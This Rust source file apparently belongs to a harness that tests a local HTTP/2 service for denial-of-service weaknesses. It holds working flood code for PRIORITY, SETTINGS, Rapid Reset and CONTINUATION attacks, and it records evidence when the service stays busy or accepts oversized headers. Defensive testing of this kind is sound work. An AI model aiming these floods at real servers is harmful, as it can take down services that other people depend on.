//! HTTP/2 frames that are cheap to send and expensive to read.

use std::time::{Duration, Instant};

use crate::{
    attack::{Attack, Evidence},
    gauge,
    stage::Stage,
    wire::http2::{
        CONTINUATION, Connection, END_HEADERS, END_STREAM, HEADERS, PRIORITY, RESET, SETTINGS, fields, frame,
    },
};

/// The window of a client that reads.
const WINDOW: u32 = 65_535;
/// The length of a flood, unless the service ends the connection.
const FLOOD_FOR: Duration = Duration::from_secs(3);
/// Frames sent together.
const BURST: usize = 1_000;
/// The reason of a reset: CANCEL.
const CANCEL: [u8; 4] = [0, 0, 0, 8];
const LARGE_FRAME_SIZE: usize = 16 * 1024;

pub(crate) fn attacks() -> Vec<Attack> {
    vec![
        Attack::new("priority-flood", "PRIORITY frames for 3 s on one connection", |stage| Box::pin(priorities(stage))),
        Attack::new("rapid-reset", "10,000 requests, each reset at once", |stage| Box::pin(rapid_reset(stage))),
        Attack::new("continuation-flood", "64 MiB of CONTINUATION frames", |stage| Box::pin(continuations(stage))),
        Attack::new("settings-flood", "SETTINGS frames for 3 s on one connection", |stage| Box::pin(settings(stage))),
    ]
}

async fn priorities(stage: &Stage) -> anyhow::Result<Evidence> {
    let process = stage.consultation.process.id();
    let (began, before) = (Instant::now(), gauge::processor_time(process)?);
    // Stream 1 depends on stream 3, with a weight.
    let is_ended = flood(stage, &frame(PRIORITY, 0, 1, &[0, 0, 0, 3, 16])).await?;
    let (seconds, used) = (began.elapsed(), gauge::processor_time(process)? - before);
    let is_busy = !is_ended && u128::from(used) * 10 > seconds.as_millis() / 2;
    Ok(Evidence::of(1).hole_if(is_busy, format!("{used} hundredths of a second of processor time in {seconds:.1?}")))
}

async fn settings(stage: &Stage) -> anyhow::Result<Evidence> {
    flood(stage, &frame(SETTINGS, 0, 0, &[])).await?;
    Ok(Evidence::of(1))
}

/// Sends one frame repeatedly. Returns whether the service ended the connection: the reader notices it later.
async fn flood(stage: &Stage, frame: &[u8]) -> anyhow::Result<bool> {
    let connection = Connection::open(stage.consultation.address, WINDOW).await?;
    let (began, burst) = (Instant::now(), frame.repeat(BURST));
    while began.elapsed() < FLOOD_FOR && connection.send(&burst).await {}
    Ok(began.elapsed() < FLOOD_FOR)
}

async fn rapid_reset(stage: &Stage) -> anyhow::Result<Evidence> {
    let mut connection = Connection::open(stage.consultation.address, WINDOW).await?;
    let get = [(":method", "GET"), (":scheme", "http"), (":path", "/livez"), (":authority", "127.0.0.1")];
    let head = fields(&get);
    for _ in 0..100 {
        let mut burst = Vec::new();
        for _ in 0..100 {
            let stream = connection.stream();
            burst.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream, &head));
            burst.extend(frame(RESET, 0, stream, &CANCEL));
        }
        if !connection.send(&burst).await {
            break;
        }
    }
    Ok(Evidence::of(1))
}

async fn continuations(stage: &Stage) -> anyhow::Result<Evidence> {
    const FRAMES: usize = 64 * 1024 * 1024 / LARGE_FRAME_SIZE;
    let connection = Connection::open(stage.consultation.address, WINDOW).await?;
    let get = [(":method", "GET"), (":scheme", "http"), (":path", "/livez"), (":authority", "127.0.0.1")];
    let value = "a".repeat(LARGE_FRAME_SIZE - 100);
    let more = frame(CONTINUATION, 0, 1, &fields(&[("x-more", value.as_str())]));
    let mut goes_on = connection.send(&frame(HEADERS, END_STREAM, 1, &fields(&get))).await;
    for _ in 0..FRAMES {
        goes_on = goes_on && connection.send(&more).await;
    }
    Ok(Evidence::of(1).hole_if(goes_on, "64 MiB of one head were taken"))
}
